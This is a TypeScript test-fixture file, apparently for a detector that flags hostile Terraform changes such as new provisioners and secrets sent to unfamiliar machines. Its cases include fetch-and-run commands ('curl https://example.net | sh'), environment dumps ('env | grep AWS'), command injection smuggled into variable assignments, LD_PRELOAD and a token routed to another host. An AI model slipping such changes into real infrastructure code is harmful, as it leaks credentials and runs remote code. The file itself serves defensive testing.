import { alone, type Hostile } from "./hostile-case";

const PROGRAM = "is a provisioner that the base branch does not have.";
const MACHINE = "brings a secret to a machine that the base branch does not have, and no plan shows.";

const data = ["resource", "terraform_data"];
const here = [...data, "machine", "provisioner", 1, "local-exec"];
const placed = "resource.terraform_data.machine.provisioner[1].local-exec";

const shown = { machine: { host: "192.0.2.99", host_key: "ecdsa BBBB" } };

/** Programs that come as data, and secrets that follow them. */
export const hostilePrograms: readonly Hostile[] = [
  alone("a script in a variable", [...here, "environment", "SCRIPT"], "env | grep AWS", placed, PROGRAM),
  alone("a script in a variable as an expression", [...here, "environment", "SCRIPT"], "${local.x}", placed, PROGRAM),
  alone("no script in a variable", [...here, "environment", "SCRIPT"], undefined, placed, PROGRAM),
  alone("variables as an expression", [...here, "environment"], "${local.x}", placed, PROGRAM),
  ...[
    "image: example.net/k3s:v1.35.4-k3s1\nport: 127.0.0.1:80\n",
    "image: rancher/k3s:v1.35.4-$AWS_SECRET_ACCESS_KEY\nport: 127.0.0.1:80\n",
    "image: rancher/k3s:v1.35.4-k3s1\nport: 0.0.0.0:80\n",
    "image: rancher/k3s:v1.35.4-k3s1\nport: 80\n",
    "image: rancher/k3s:v1.35.4-k3s1\nport: 127.0.0.1:80\nvolumes: [/:/host]\n",
  ].map((config) =>
    alone(`the settings ${JSON.stringify(config)}`, [...here, "environment", "CONFIG"], config, placed, PROGRAM),
  ),
  upload("another script", 0, "curl https://example.net | sh\n"),
  upload("a script by another local", 0, "${local.script}"),
  ...[
    "NODE='server-1'\nURL='https://example.net/v1.35.4%2Bk3s1'\n",
    "NODE='server-1'\nURL='https://example.org/v1.35.4%2Bk3s1/../../x'\n",
    "NODE='server-1'; curl https://example.net\nURL='https://example.org/v1.35.4%2Bk3s1'\n",
    "NODE='$(env)'\nURL='https://example.org/v1.35.4%2Bk3s1'\n",
    "NODE='server-1'\ncurl https://example.net\nURL='https://example.org/v1.35.4%2Bk3s1'\n",
    "NODE='server-1'\nLD_PRELOAD='/x'\nURL='https://example.org/v1.35.4%2Bk3s1'\n",
    "NODE='server-1'\nURL='https://example.org/v1.35.4%2Bk3s1'\nurl",
    "NODE='${local.x}'\nURL='https://example.org/v1.35.4%2Bk3s1'\n",
  ].map((content) => upload(`the assignments ${JSON.stringify(content)}`, 1, content)),
  upload("an expression for a list", 2, "${var.token}"),
  upload("a command for a list", 2, "$(env)\n"),
  upload("another expression for a secret", 3, "${var.token}"),
  {
    title: "a script of a local that is another",
    changes: [[["locals", "node_script"], "#!/bin/sh\ncurl https://example.net | sh\n"]],
    at: "locals.node_script",
    why: "is not as on the base branch, and resource.terraform_data.rollout.provisioner[0].file depends on it.",
  },
  ...["host", "host_key"].map((key) =>
    alone(
      `a secret for another ${key}`,
      [...data, "rollout", "provisioner", 3, "file", "connection", key],
      "192.0.2.99",
      "resource.terraform_data.rollout.provisioner[3].file",
      MACHINE,
    ),
  ),
  {
    title: "a secret for a machine of a whole resource",
    changes: [[[...data, "rollout", "provisioner", 3, "file", "connection"], undefined]],
    at: "resource.terraform_data.rollout.provisioner[3].file",
    why: MACHINE,
  },
  {
    title: "a secret for a machine that an expression names",
    changes: [[[...data, "rollout", "provisioner", 3, "file", "connection", "host"], "${self.input.host}"]],
    at: "resource.terraform_data.rollout.provisioner[3].file",
    why: MACHINE,
  },
  ...[
    { machine: { host: "192.0.2.98", host_key: "ecdsa BBBB" } },
    { machine: { host: "192.0.2.99", host_key: "ecdsa CCCC" } },
    { machine: { host: "192.0.2.99", host_key: "ecdsa BBBB", '${sensitive("x")}': 1 } },
    { machine: { host: "192.0.2.99", host_key: "ecdsa BBBB" }, '${sensitive("x")}': 1 },
    { machine: { host: '${sensitive("192.0.2.99")}', host_key: "ecdsa BBBB" } },
    { other: { host: "192.0.2.99", host_key: "ecdsa BBBB" } },
    [{ machine: { host: "192.0.2.99", host_key: "ecdsa BBBB" } }],
    '${sensitive({ machine = { host = "192.0.2.99", host_key = "ecdsa BBBB" } })}',
  ].map((triggers) => hidden(`a secret for another machine with ${JSON.stringify(triggers)}`, triggers)),
  {
    ...hidden("a secret for another machine with what is ignored", shown),
    changes: [
      ...hidden("", shown).changes,
      [[...data, "rollout", "lifecycle"], { ignore_changes: ["triggers_replace"] }],
    ],
  },
  {
    title: "a secret that a local brings to another machine",
    changes: [
      [["locals", "held"], { it: "${var.token}" }],
      [[...data, "rollout", "provisioner", 2, "file", "content"], "${local.held.it}"],
      [[...data, "rollout", "provisioner", 2, "file", "connection", "host"], "192.0.2.99"],
    ],
    at: "resource.terraform_data.rollout.provisioner[2].file",
    why: MACHINE,
  },
];

/** A secret for another machine, of which a plan says this. */
function hidden(title: string, triggers: unknown): Hostile {
  const connection = [...data, "rollout", "provisioner", 3, "file", "connection"];
  return {
    title,
    changes: [
      [[...connection, "host"], "192.0.2.99"],
      [[...connection, "host_key"], "ecdsa BBBB"],
      [[...data, "rollout", "triggers_replace"], triggers],
    ],
    at: "resource.terraform_data.rollout.provisioner[3].file",
    why: MACHINE,
  };
}

function upload(title: string, index: number, content: string): Hostile {
  const path = [...data, "rollout", "provisioner", index, "file", "content"];
  return alone(title, path, content, `resource.terraform_data.rollout.provisioner[${String(index)}].file`, PROGRAM);
}
